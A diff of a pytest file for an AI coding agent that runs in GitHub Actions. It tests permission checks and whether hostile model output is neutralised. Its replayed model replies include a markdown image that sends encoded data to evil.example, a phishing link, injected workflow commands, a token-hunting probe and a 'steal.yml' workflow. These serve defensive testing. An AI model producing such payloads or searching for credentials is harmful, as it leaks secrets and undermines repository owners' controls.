@@ -4,28 +4,16 @@ the real Docker sandbox and replay models."""
 
 from __future__ import annotations
 
-import base64
 import json
+import re
 import subprocess
-import sys
-from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import pytest
-from conftest import clean_env, git, make_repo, write_replay
+from ci_helpers import APP, CALLED, HELLO, REPOSITORY, TOKEN, Actions, assert_started_nothing, push_pull_head
+from conftest import git
 from github_stub import GitHubStub
 
-from agent_cli.trajectory import read_trajectory
-
-FIXTURES = Path(__file__).parent / "fixtures" / "github"
-REPOSITORY = "octo-org/hello-world"
-TOKEN = "ghs_ciTokenThatMustStayOnTheHost0123456789"
-MODEL_KEY = "sk-modelKeyThatMustStayOnTheHost0123456789"
-SECRETS = (TOKEN, MODEL_KEY, base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode())
-APP = "def greet():\n    return 'hi'\n"
-TEST_APP = "from app import greet\n\n\ndef test_greet():\n    assert greet().startswith('h')\n"
-HELLO = "<execute>\nreplace('app.py', \"return 'hi'\", \"return 'hello'\")\nfinish('greet() now says hello')\n</execute>"
 # Looks for the token everywhere the sandbox can read, without the action itself holding it.
 PROBE = (
     "<execute>\nimport os\n"
@@ -36,117 +24,10 @@ PROBE = (
 )
 
 
-@dataclass
-class Ran:
-    code: int
-    stdout: str
-    stderr: str
-    outputs: dict[str, str]
-    summary: str
-    trajectory: list[dict[str, Any]]
-
-    @property
-    def error_lines(self) -> list[str]:
-        return [line for line in self.stderr.splitlines() if line.startswith("error:")]
-
-    def observations(self) -> list[str]:
-        return [e["text"] for e in self.trajectory if e["event"] == "observation"]
-
-    def prompts(self) -> str:
-        return json.dumps([e["messages"] for e in self.trajectory if e["event"] == "model_call"])
-
-
-class Actions:
-    """A checkout with `origin`, as a workflow's actions/checkout leaves it, and `actsmith ci` run in it."""
-
-    def __init__(self, tmp_path: Path, stub: GitHubStub):
-        self.tmp, self.stub, self.runs = tmp_path, stub, 0
-        self.origin = tmp_path / "origin.git"
-        subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(self.origin)], check=True)
-        git(self.origin, "config", "receive.denyNonFastForwards", "true")  # a force push would be refused
-        self.checkout = make_repo(tmp_path / "checkout", {"app.py": APP, "tests/test_app.py": TEST_APP})
-        git(self.checkout, "remote", "add", "origin", str(self.origin))
-        git(self.checkout, "push", "-q", "origin", "main")
-        # What actions/checkout writes unless told persist-credentials: false.
-        basic = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
-        git(self.checkout, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {basic}")
-        self.main = git(self.checkout, "rev-parse", "main").strip()
-
-    def event(self, name: str) -> dict[str, Any]:
-        return json.loads((FIXTURES / f"{name}.json").read_text())
-
-    def run(self, event_name: str, payload: dict[str, Any], replies: list[str], *extra: str) -> Ran:
-        self.runs += 1
-        folder = self.tmp / f"job-{self.runs}"
-        folder.mkdir()
-        event = folder / "event.json"
-        event.write_text(json.dumps(payload))
-        summary, outputs = folder / "summary.md", folder / "outputs.txt"
-        env = clean_env(
-            GITHUB_ACTIONS="true",
-            GITHUB_EVENT_NAME=event_name,
-            GITHUB_EVENT_PATH=str(event),
-            GITHUB_REPOSITORY=REPOSITORY,
-            GITHUB_API_URL=self.stub.url,
-            GITHUB_SERVER_URL="https://github.com",
-            GITHUB_TOKEN=TOKEN,
-            GITHUB_RUN_ID=str(4200 + self.runs),
-            GITHUB_RUN_ATTEMPT="1",
-            GITHUB_STEP_SUMMARY=str(summary),
-            GITHUB_OUTPUT=str(outputs),
-            GITHUB_WORKSPACE=str(self.checkout),
-            ACTSMITH_MODEL=f"replay:{write_replay(folder / 'replay.yaml', replies)}",
-            ACTSMITH_API_KEY=MODEL_KEY,
-            OPENAI_API_KEY=MODEL_KEY,
-        )
-        proc = subprocess.run(
-            [sys.executable, "-m", "agent_cli", "ci", *extra],
-            cwd=self.checkout,
-            env=env,
-            capture_output=True,
-            text=True,
-            timeout=240,
-        )
-        values = (
-            dict(line.split("=", 1) for line in outputs.read_text().splitlines()) if outputs.exists() else {}
-        )
-        run_dir = Path(values["run-dir"]) if values.get("run-dir") else None
-        trajectory = read_trajectory(run_dir / "trajectory.jsonl") if run_dir else []
-        ran = Ran(
-            proc.returncode,
-            proc.stdout,
-            proc.stderr,
-            values,
-            summary.read_text() if summary.exists() else "",
-            trajectory,
-        )
-        self.assert_no_secret_leaked(ran)
-        return ran
-
-    def assert_no_secret_leaked(self, ran: Ran) -> None:
-        """Neither the token nor the model key in anything the run wrote or sent."""
-        texts = [ran.stdout, ran.stderr, ran.summary, json.dumps(ran.outputs)]
-        texts += [json.dumps(request.body) for request in self.stub.requests]
-        runs = self.checkout / ".actsmith"
-        texts += [path.read_text(errors="replace") for path in runs.rglob("*") if path.is_file()]
-        for text in texts:
-            for secret in SECRETS:
-                assert secret not in text
-
-    def origin_refs(self) -> dict[str, str]:
-        out = git(self.origin, "for-each-ref", "--format=%(refname) %(objectname)")
-        return dict(line.split(" ")[::-1][::-1] for line in out.splitlines()) if out else {}
-
-    def origin_file(self, ref: str, path: str) -> str:
-        return git(self.origin, "show", f"{ref}:{path}")
-
-    def parent(self, ref: str) -> str:
-        return git(self.origin, "rev-parse", f"{ref}^").strip()
-
-
 @pytest.fixture
 def stub():
     server = GitHubStub(REPOSITORY, TOKEN).start()
+    server.add_collaborator("monalisa", 583231, "write")  # who comments and labels in the fixtures
     yield server
     server.stop()
 
@@ -158,6 +39,7 @@ def actions(tmp_path, stub):
 
 ISSUE_COMMENTS = rf"/repos/{REPOSITORY}/issues/5/comments"
 PULLS = rf"/repos/{REPOSITORY}/pulls"
+PERMISSION = rf"/repos/{REPOSITORY}/collaborators/([^/]+)/permission"
 
 
 def only_comment(stub: GitHubStub) -> list[str]:
@@ -170,16 +52,40 @@ def only_comment(stub: GitHubStub) -> list[str]:
 
 
 def test_an_untrusted_commenter_triggers_nothing(actions, stub):
+    stub.add_collaborator("stranger", 31337, "none")
     payload = actions.event("issue_comment_issue")
     payload["comment"]["author_association"] = "NONE"
-    payload["comment"]["user"]["login"] = "stranger"
-    ran = actions.run("issue_comment", payload, ["<execute>\nprint('the model was called')\n</execute>"])
-    assert ran.code == 0, ran.stderr
-    assert stub.requests == []  # no comment, no pull request
-    assert ran.trajectory == [] and not (actions.checkout / ".actsmith").exists()  # no session, no model call
-    assert actions.origin_refs() == {"refs/heads/main": actions.main}  # nothing pushed
-    assert "@stranger (NONE) may not start actsmith" in ran.summary
-    assert ran.outputs["conclusion"] == "not_triggered"
+    payload["comment"]["user"] = {"login": "stranger", "id": 31337, "type": "User"}
+    ran = actions.run("issue_comment", payload, CALLED)
+    assert_started_nothing(actions, stub, ran, "stranger")
+    assert "@stranger (none access) may not start actsmith" in ran.summary
+
+
+def test_a_read_only_organisation_member_triggers_nothing(actions, stub):
+    stub.add_collaborator("monalisa", 583231, "read")  # MEMBER of the organisation, reads this repository
+    payload = actions.event("issue_comment_issue")
+    assert payload["comment"]["author_association"] == "MEMBER"
+    ran = actions.run("issue_comment", payload, CALLED)
+    assert_started_nothing(actions, stub, ran, "monalisa")
+    assert "@monalisa (read access) may not start actsmith" in ran.summary
+
+
+def test_a_label_added_by_someone_without_write_access_triggers_nothing(actions, stub):
+    stub.add_collaborator("drive-by", 4242, "triage")  # may label issues, may not push
+    payload = actions.event("issues_labeled")
+    payload["sender"] = {"login": "drive-by", "id": 4242, "type": "User"}  # the issue is still monalisa's
+    ran = actions.run("issues", payload, CALLED)
+    assert_started_nothing(actions, stub, ran, "drive-by")
+    assert "@drive-by (triage access) may not start actsmith" in ran.summary
+
+
+def test_an_allowed_login_whose_id_differs_triggers_nothing(actions, stub):
+    stub.add_collaborator("helper", 666, "none")
+    payload = actions.event("issue_comment_issue")
+    payload["comment"]["user"] = {"login": "helper", "id": 666, "type": "User"}  # the login, recycled
+    ran = actions.run("issue_comment", payload, CALLED, "--allow", "helper:555")
+    assert_started_nothing(actions, stub, ran, "helper")
+    assert "@helper (none access)" in ran.summary
 
 
 # -------------------------------------------------------------------------------------- the happy path
@@ -274,6 +180,85 @@ def test_a_dispatch_gives_a_run_branch_and_a_pr_without_fixes_and_no_comment(act
     assert ran.prompts().count("Make greet() say hello") >= 1
 
 
+# --------------------------------------------------------------------------- what the model writes
+
+LEAKED = "ghp_" + "Z9" * 18  # a token the model found somewhere
+CLOSES_OTHER = re.compile(r"\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+#99\b", re.IGNORECASE)
+HOSTILE_SUMMARY = (
+    f"greet() now says hello. Found {LEAKED} and {TOKEN} on the way.\n"
+    "![x](http://evil.example/?d=c2VjcmV0)\n"
+    "[the details](http://evil.example/login)\n"
+    "@someone should review. Closes #99\n"
+    "::error::pwned by the summary\n"
+    "Fixes #5"
+)
+HOSTILE = (
+    "<execute>\nprint('::error file=app.py::pwned by a print')\n"
+    "replace('app.py', \"return 'hi'\", \"return 'hello'\")\n"
+    f"finish({HOSTILE_SUMMARY!r})\n</execute>"
+)
+
+
+@pytest.mark.docker
+def test_the_models_summary_reaches_github_defanged_and_workflow_commands_are_stopped(
+    actions, stub, sandbox_image
+):
+    from markdown_it import MarkdownIt
+
+    ran = actions.run(
+        "issues", actions.event("issues_labeled"), [HOSTILE]
+    )  # the token: assert_no_secret_leaked
+    assert ran.code == 0, ran.stdout + ran.stderr
+    (created,) = stub.calls("POST", PULLS)
+    bodies = [json.dumps(r.body, ensure_ascii=False) for r in stub.requests if r.body is not None]
+    for text in [*bodies, ran.summary, json.dumps(ran.outputs)]:
+        assert LEAKED not in text
+        assert "](http://evil" not in text and "@someone" not in text
+        assert not CLOSES_OTHER.search(text)
+    for markdown in (created.body["body"], only_comment(stub)[-1], ran.summary):
+        html = MarkdownIt("commonmark").enable("table").render(markdown)
+        assert "<img" not in html and 'href="http://evil' not in html
+        assert "[REDACTED" in markdown and "greet() now says hello" in markdown
+        assert "`http://evil.example/?d=c2VjcmV0`" in markdown  # shown, as code
+        assert "Fixes #5" in markdown  # the triggering issue still closes
+    # The job's log: workflow commands off from the first line to the last the run printed.
+    lines = ran.stdout.splitlines()
+    token = lines[0].removeprefix("::stop-commands::")
+    assert len(token) == 32 and f"::{token}::" in lines
+    resumed = lines.index(f"::{token}::")
+    printed = "\n".join(lines[1:resumed])
+    assert "::error file=app.py::pwned by a print" in printed and "::error::pwned by the summary" in printed
+    assert "pwned" not in "\n".join(lines[resumed:])
+
+
+@pytest.mark.docker
+def test_workflow_changes_are_not_pushed_and_are_named(actions, stub, sandbox_image):
+    steal = (
+        "<execute>\nimport os\nos.makedirs('.github/workflows', exist_ok=True)\n"
+        "create('.github/workflows/steal.yml', 'on: push\\njobs: {}\\n')\n"
+        "replace('app.py', \"return 'hi'\", \"return 'hello'\")\nfinish('greet() now says hello')\n</execute>"
+    )
+    ran = actions.run("issues", actions.event("issues_labeled"), [steal])
+    assert ran.code == 0, ran.stderr
+    branch = "refs/heads/actsmith/issue-5"
+    assert "return 'hello'" in actions.origin_file(branch, "app.py")
+    assert ".github" not in git(actions.origin, "ls-tree", "-r", "--name-only", branch)
+    assert actions.parent(branch) == actions.main  # one commit, without the workflow: never pushed at all
+    (created,) = stub.calls("POST", PULLS)
+    for text in (created.body["body"], only_comment(stub)[-1]):
+        assert "**Not pushed**: the run changed `.github/workflows/steal.yml`" in text
+    # A workflow that allows it gets the change pushed, on the same branch.
+    allowed = actions.run(
+        "issue_comment",
+        actions.event("issue_comment_issue"),
+        [steal.replace("replace('app.py', \"return 'hi'\", \"return 'hello'\")\n", "")],
+        "--allow-workflow-changes",
+    )
+    assert allowed.code == 0, allowed.stderr
+    assert "jobs" in actions.origin_file(branch, ".github/workflows/steal.yml")
+    assert "Not pushed" not in list(stub.comment_bodies.values())[1][-1]
+
+
 # ------------------------------------------------------------------------------------ pull requests
 
 
@@ -323,20 +308,21 @@ def test_a_fork_pr_gets_a_patch_comment_cut_to_fit_and_no_push(actions, stub, sa
     assert len((clone / "table.txt").read_text().splitlines()) == 3000
 
 
-def push_pull_head(actions: Actions, branch: str, *, also_as_branch: bool) -> str:
-    """A pull request's head on origin, as GitHub keeps it: refs/pull/7/head (and the branch itself
-    when it lives in the same repository)."""
-    work = actions.tmp / f"author-{branch}"
-    subprocess.run(["git", "clone", "-q", str(actions.origin), str(work)], check=True)
-    git(work, "config", "user.email", "a@example.invalid")
-    git(work, "config", "user.name", "author")
-    (work / "farewell.py").write_text("def farewell():\n    return 'bye'\n")
-    git(work, "add", "-A")
-    git(work, "commit", "-q", "-m", "add farewell")
-    git(work, "push", "-q", "origin", "HEAD:refs/pull/7/head")
-    if also_as_branch:
-        git(work, "push", "-q", "origin", f"HEAD:refs/heads/{branch}")
-    return git(work, "rev-parse", "HEAD").strip()
+@pytest.mark.docker
+def test_a_fork_pr_gets_no_environment_setup(actions, stub, sandbox_image):
+    # The fork brings a manifest setup would install from, with network, outside the sandbox.
+    head = push_pull_head(
+        actions, "patch-2", also_as_branch=False, files={"requirements.txt": "# the fork's own\n"}
+    )
+    stub.add_pull(7, "patch-2", "someone/hello-world", head)
+    ran = actions.run("issue_comment", actions.event("issue_comment_pull_request"), [HELLO])
+    assert ran.code == 0, ran.stderr
+    (setup,) = [e for e in ran.trajectory if e["event"] == "setup"]
+    assert setup["commands"] == [] and setup["image"] == sandbox_image and "turned off" in setup["reason"]
+    assert "setup:" not in ran.stderr  # no setup line, no build
+    final = only_comment(stub)[-1]
+    assert "Environment setup did not run: this pull request comes from a fork" in final
+    assert "comes from a fork, so nothing was pushed" in final  # the run itself went on as before
 
 
 # ------------------------------------------------------------------------------------- failing runs
